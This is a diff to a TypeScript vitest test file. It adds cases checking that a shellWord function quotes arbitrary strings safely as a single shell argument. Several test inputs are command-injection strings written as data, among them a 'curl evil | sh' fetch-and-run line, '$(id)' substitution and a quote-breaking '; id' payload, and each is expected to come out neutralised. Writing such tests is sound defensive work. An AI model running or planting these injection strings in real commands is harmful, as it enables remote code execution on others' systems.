@@ -1,5 +1,5 @@
 import { expect, it } from "vitest";
-import { redacted, safeJson, shown } from "./clean.ts";
+import { redacted, safeJson, shellWord, shown } from "./clean.ts";
 
 const ESC = String.fromCharCode(27);
 const sign = (code: number): string => String.fromCodePoint(code);
@@ -37,4 +37,15 @@ it("never lets through what looks like a token, or is to be hidden", () => {
   expect(redacted(`Bearer ${token} and s3cret-value`, ["s3cret-value"])).toBe(
     "Bearer rcl_[hidden] and [hidden]",
   );
+});
+
+it.each([
+  ["01jdyz3v6k8m2n4p", "01jdyz3v6k8m2n4p"],
+  ["plans/a b.json", "'plans/a b.json'"],
+  ["x; curl evil | sh", "'x; curl evil | sh'"],
+  ["$(id)", "'$(id)'"],
+  ["a'; id", "'a'\\''; id'"],
+  ["a\nid", "'a id'"],
+])("writes %j as one word of a command", (given, wanted) => {
+  expect(shellWord(given)).toBe(wanted);
 });
